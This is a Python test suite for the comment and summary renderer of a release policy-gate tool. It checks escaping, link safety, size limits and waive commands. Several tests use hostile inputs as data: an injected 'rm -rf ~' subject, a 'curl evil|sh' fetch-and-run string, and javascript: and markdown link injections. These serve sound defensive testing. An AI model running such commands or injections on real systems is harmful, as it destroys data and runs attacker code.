from __future__ import annotations

import re
from dataclasses import replace

import pytest
from formats_world import HOSTILE, LINKS, filled_with, judgement, many, note, of, overview, record, review, warning
from hypothesis import example, given, settings
from rendered_page import ALIVE, page

from policy_gate.errors import Problem, Reason
from policy_gate.model import BaseState, Fix, Mode, Outcome, Place, ReleaseIdentity, Subject, Verdict
from policy_gate.overview import Suggestion
from policy_gate.report.check_run import render_check_run
from policy_gate.report.comment import MAX_ROWS, MAX_UNITS, Standing, render_comment, render_green
from policy_gate.report.comment_rule import by_rule, can_waive, waive_command
from policy_gate.report.escaping import utf16_units
from policy_gate.report.findings import findings
from policy_gate.report.summary import render_summary
from policy_gate.review import Direction

ALLOWED_TAGS = {
    "h3",
    "p",
    "strong",
    "code",
    "a",
    "details",
    "summary",
    "b",
    "br",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "ul",
    "ol",
    "li",
    "pre",
    "blockquote",
    "sub",
}


NOTHING_BEFORE = Standing()


def rendered(one, standing: Standing = NOTHING_BEFORE, budget: int = MAX_UNITS) -> str:
    return render_comment(one, standing, budget)


def suggestion(**changes) -> Suggestion:
    parts = {
        "findings": ("COST-002:target:node-v2/kws:/a",),
        "path": "release.yaml",
        "start_line": 3,
        "end_line": 3,
        "before": ("    size: 1",),
        "after": ("    size: 2",),
        "words": "let `policy-gate fix` write the real size",
    }
    return Suggestion(**{**parts, **changes})


def whole(text: str):
    """A page whose every element is closed, and none of which came from outside."""
    shown = page(text)
    assert not shown.unclosed
    assert set(shown.tags) <= ALLOWED_TAGS
    return shown


@given(HOSTILE)
@example("</details>\n\n@team #1 | `")
@example("x|y`|`z")
@settings(max_examples=60, deadline=None)
def test_whatever_a_repository_says_adds_no_element_link_mention_or_cell(text):
    shown = whole(rendered(filled_with(text)))
    assert not [one for one in shown.bare if ALIVE.search(one)]
    assert all(value.startswith("https://github.example/") for _, name, value in shown.attributes if name == "href")
    assert not [name for _, name, _ in shown.attributes if name not in ("href", "open", "align", "lang", "start")]


@given(HOSTILE)
@settings(max_examples=30, deadline=None)
def test_hostile_values_make_as_many_cells_as_plain_ones(text):
    plain, hostile = (page(rendered(filled_with(one))) for one in ("kws", text or "x"))
    rows = [one.count("tr") for one in (plain, hostile)]
    assert (plain.count("td"), plain.count("table")) == (hostile.count("td"), hostile.count("table")) or rows[
        0
    ] != rows[1]


@given(HOSTILE)
@settings(max_examples=20, deadline=None)
def test_a_green_comment_is_harmless_too(text):
    shown = whole(render_green(filled_with(text), text))
    assert not [one for one in shown.bare if ALIVE.search(one)]


@pytest.mark.parametrize("words", ["", "🧪" * 300, "音声" * 300, "@team " * 60, "| ` " * 100])
def test_5000_findings_fit_and_every_number_is_exact(words):
    text = rendered(many(5000, words))
    assert utf16_units(text) <= MAX_UNITS
    shown = whole(text)
    table = text[text.index("| Finding") : text.index("<details>")]
    rows = sum(line.startswith("| ❌") for line in table.split("\n"))
    told = re.search(r"\*\*([\d,]+) of 5,000 findings shown, ([\d,]+) left out", table)
    assert told is not None
    assert int(told[1].replace(",", "")) == rows == 5000 - int(told[2].replace(",", ""))
    assert 0 < rows <= MAX_ROWS
    assert shown.count("details") > 1


@pytest.mark.parametrize("budget", [3000, 6000, 12_000, 30_000])
def test_a_smaller_budget_leaves_out_more_and_says_how_much(budget):
    text = rendered(replace(many(300), suggestions=tuple(suggestion() for _ in range(50))), budget=budget)
    assert utf16_units(text) <= budget
    whole(text)
    assert "left out" in text
    assert text.startswith("### ❌ `kws-en 1.4.0` is blocked")


def test_the_verdict_and_its_reason_come_before_everything_else():
    first = rendered(of(judgement(), warning())).split("\n")[0]
    assert first == "### ❌ `kws-en 1.4.0` is blocked by `COST-002`"


def test_limit_base_and_this_release_stand_in_one_row():
    (row,) = [line for line in rendered(of(judgement())).split("\n") if line.startswith("| ❌")]
    cells = [one.strip() for one in row.strip("|").split("|")]
    assert cells[1:] == ["**70,000&nbsp;B** (+16.7%)", "65,536&nbsp;B", "60,000&nbsp;B"]


def test_without_a_base_the_table_says_so_and_shows_no_growth():
    text = rendered(of(judgement(base=None)))
    (row,) = [line for line in text.split("\n") if line.startswith("| ❌")]
    assert row.endswith("| no baseline |")
    assert "%" not in text


def test_a_budget_shows_the_base_that_the_growth_rule_knows():
    grown = judgement("COST-003", outcome=Outcome.PASS)
    budget = judgement(base=None)
    base = ReleaseIdentity(
        name="kws-en", version="1.3.0", sequence=1, manifest_digest="sha256:0", path="release.yaml", source="base:1"
    )
    made = record(budget, grown, base=base, base_state=BaseState.FOUND)
    (row,) = [line for line in rendered(overview(made)).split("\n") if line.startswith("| ❌")]
    assert row.endswith("| 60,000&nbsp;B |")
    other = record(budget, replace(grown, measured=1), base=base, base_state=BaseState.FOUND)
    (row,) = [line for line in rendered(overview(other)).split("\n") if line.startswith("| ❌")]
    assert row.endswith("| - |")


def test_only_a_failure_that_blocks_has_a_command_to_waive_it():
    waivable = [
        judgement(),
        judgement("COST-003", outcome=Outcome.UNKNOWN, reason=Reason.NOT_IN_TREE),
        judgement("COST-004", outcome=Outcome.ERROR),
        judgement("SIG-001"),
        judgement("POL-014"),
        warning(),
    ]
    found = findings(of(*waivable))
    assert [one.judgement.rule for one in found if can_waive(one)] == ["COST-002"]
    assert rendered(of(*waivable)).count("policy-gate waive ") == 1


def test_a_waive_command_quotes_what_a_shell_would_run():
    one = findings(of(judgement(subject=Subject("target", ("x'; rm -rf ~ #",)))))[0]
    assert "--subject 'target x'\\''; rm -rf ~ #' --until" in waive_command(one)
    hidden = findings(of(judgement(subject=Subject("target", ("x\u202ey",)))))[0]
    assert waive_command(hidden) == ""


def test_a_waive_command_is_one_that_the_real_command_takes():
    import shlex

    from policy_gate.cli.waive import command

    words = shlex.split(waive_command(findings(of(judgement()))[0]))[2:]
    given = command.make_context("waive", words).params
    assert given["rule"] == "COST-002"
    assert given["subject"] == "target node-v2 x kws"
    assert given["manifest"] == "release.yaml"


def test_findings_of_one_rule_share_a_block_and_its_fixes():
    made = [
        judgement(
            subject=Subject("target", (f"node-{at}",)),
            place=Place(source="head", path="release.yaml", pointer=f"/{at}"),
        )
        for at in range(9)
    ]
    text = rendered(of(*made))
    assert text.count("make the layer narrower") == 1
    assert "5 of 9 findings shown" in text
    assert [len(one) for one in by_rule(findings(of(*made)))] == [9]


def test_fixes_keep_their_order_and_causes_are_counted():
    fixes = tuple(Fix(text=f"way {at}") for at in range(7))
    causes = tuple(f"cause {at}" for at in range(9))
    text = rendered(of(judgement(fixes=fixes, causes=causes)))
    assert "1. way 0\n2. way 1\n3. way 2\n4. way 3\n5. way 4\n" in text
    assert "5 of 7 ways shown" in text
    assert "3 of 9 causes shown" in text


def test_one_finding_opens_by_itself_and_many_are_folded():
    assert "<details open><summary>❌" in rendered(of(judgement()))
    assert "<details open><summary>❌" not in rendered(of(judgement(), judgement("COST-009")))


def test_a_place_links_to_the_lines_at_the_head_and_a_limit_to_those_at_the_base():
    limit = Place(source="policy", path="policy-gate.yaml", line=7)
    made = record(judgement(limit_place=limit), policy_source="base:" + "b2" * 20)
    text = rendered(overview(made))
    assert f"[`release.yaml:3`](https://github.example/acme/kws/blob/{'a1' * 20}/release.yaml#L3)" in text
    assert f"[`policy-gate.yaml:7`](https://github.example/acme/kws/blob/{'b2' * 20}/policy-gate.yaml#L7)" in text


@pytest.mark.parametrize(
    "links",
    [
        replace(LINKS, server="javascript:alert(1)//"),
        replace(LINKS, repository="acme/kws/../../evil"),
        replace(LINKS, head="main"),
        replace(LINKS, server="https://x.example/y)[z](https://evil.example"),
    ],
)
def test_an_address_that_is_none_makes_no_link(links):
    text = rendered(of(judgement(), links=replace(links, run="https://evil.example/actions/runs/1")))
    assert not whole(text).count("a")


def test_releases_that_are_blocked_come_first_and_allowed_ones_are_folded():
    fleet = overview(
        *(record(name=f"good-{at}", path=f"{at}.yaml") for at in range(300)),
        record(judgement(), name="bad", path="bad.yaml"),
    )
    text = rendered(fleet)
    assert text.startswith("### ❌ 1 of 301 releases is blocked")
    assert text.index("`bad 1.4.0`") < text.index("300 releases allowed")
    assert "200 of 300 allowed releases shown, 100 left out" in text
    whole(text)


def test_what_could_not_be_judged_has_its_place_and_its_hint():
    problem = Problem("unknown field 'artefacts'", "other/release.yaml", 4, 1, "did you mean 'artifacts'?")
    text = rendered(of(judgement(), problems=(problem,), exit_code=2))
    assert text.startswith("### ⛔ Could not be judged")
    assert "`other/release.yaml:4:1`" in text
    assert "did you mean 'artifacts'?" in text
    assert "is allowed" not in text


def test_an_internal_error_never_reads_as_allowed():
    text = rendered(overview(record(), exit_code=3))
    assert "✅" not in text.split("\n")[0]
    assert "allowed" in text.split("\n")[0]
    assert "nothing is allowed" in text


@pytest.mark.parametrize("made", [of(judgement()), of(exit_code=0)])
def test_what_a_fork_reports_of_itself_has_no_sign_of_ours(made):
    fork = replace(made, reported_by_fork=True)
    for text in (rendered(fork), render_green(fork, "a1" * 20)):
        first = text.split("\n")[0]
        assert first.startswith("### 📄 The pull request's own run reports: ")
        assert "Nobody verified this." in text
        assert "✅" not in first
        assert "❌" not in first


def test_what_loosens_the_judge_comes_first_with_the_command_that_approves_it():
    looser = review()
    stricter = replace(looser.changes[0], direction=Direction.STRICTER, what="zzz")
    text = rendered(of(review=replace(looser, changes=(stricter, *looser.changes))))
    assert text.index("**looser**") < text.index("stricter |")
    assert f"policy-gate waive --approve {looser.digest}" in text


@pytest.mark.parametrize(
    ("given_by", "words"),
    [
        ({"approved_by": ("lab <b>key</b>",)}, "the signature of `lab <b>key</b>`"),
        ({"reviewed_by": ("lee (team acme/edge)", "@mo")}, "the GitHub review of `lee (team acme/edge)`, `@mo`"),
    ],
)
def test_a_table_that_is_approved_says_by_whom_and_asks_for_no_signature(given_by, words):
    looser = review()
    approved = replace(looser, changes=(replace(looser.changes[0], **given_by),))
    text = rendered(of(review=approved))
    assert f"This table is approved by {words}: `{looser.digest}`" in text
    assert "waive --approve" not in text


def test_a_report_of_a_fork_has_no_command_of_its_authors_words():
    text = rendered(of(judgement("x; curl evil|sh"), reported_by_fork=True))
    assert "Explain" not in text
    assert "policy-gate waive" not in text


@pytest.mark.parametrize(
    ("state", "words"), [(BaseState.FIRST_RELEASE, "no baseline"), (BaseState.BROKEN, "base unreadable")]
)
def test_a_base_that_is_broken_is_not_called_no_baseline(state, words):
    gone = {"base_state": state, "base_note": state.value}
    fleet = overview(record(judgement(base=None), **gone), record(judgement(base=None), name="b", **gone))
    for text in (rendered(fleet), render_summary(fleet)):
        assert {"no baseline", "base unreadable"} & set(page(text).cells) == {words}


def test_every_computed_change_is_shown_also_those_on_the_diff():
    made = of(judgement(), suggestions=(suggestion(), suggestion(path="other.yaml", changes_signed_bytes=True)))
    text = rendered(made, Standing(on_lines={0}))
    assert text.count("```diff") == 2
    assert "1 with one click on the diff" in text
    assert text.count("This changes signed bytes: sign the release again.") == 1
    assert "Write the real size." in text


def test_a_fence_in_a_suggestion_ends_nothing():
    made = of(judgement(), suggestions=(suggestion(after=("```", "</details>", "# x")),))
    shown = whole(rendered(made))
    assert shown.count("h3") == 1


def test_warnings_and_what_is_only_recorded_stand_behind_one_click():
    text = rendered(of(warning(), note()))
    assert "How to fix 2 findings that block nothing" in text
    assert "How to fix 1 warning<" in rendered(of(warning()))


def test_a_long_command_to_reproduce_is_not_cut_into_another_one():
    for command in ("x " * 2000, "x\u202ey"):
        long = of(judgement(), reproduce=command)
        for text in (rendered(long), render_summary(long), render_check_run(long).summary):
            assert "How to reproduce this is in the log." in text
            assert "Reproduce" not in text
    middle = "policy-gate check " + "m/release.yaml " * 100
    assert f"`{middle.strip()}`" in render_summary(of(judgement(), reproduce=middle.strip()))
    assert "```sh\npolicy-gate check\n```" in rendered(of(judgement(), reproduce="policy-gate check"))


def test_what_a_waiver_covers_and_what_passed_is_folded_with_counts():
    covered = judgement("COST-003", outcome=Outcome.WAIVED, waiver="W-1", note="waiver W-1 until 2026-12-31; owner lee")
    text = rendered(of(judgement(), covered, judgement("COST-004", outcome=Outcome.PASS)))
    assert "1 finding waived" in text
    assert "waiver W-1 until 2026-12-31; owner lee" in text
    assert "<summary>1 passed</summary>\n\nBy area: cost 1." in text


def test_an_audited_rule_never_makes_a_comment_red():
    text = rendered(of(judgement(mode=Mode.AUDIT)))
    assert text.startswith("### ✅")


def test_notes_stand_open_where_the_change_of_policy_blocks() -> None:
    unread = "reviews: members of team acme/edge cannot be read: members: read"
    blocking = replace(review(), verdict=Verdict.BLOCKED)
    folded, blocked = (replace(of(review=one), notes=(unread,)) for one in (None, blocking))
    assert "<details><summary>1 note</summary>" in rendered(folded)
    assert "<details open><summary>2 notes</summary>" in rendered(blocked)
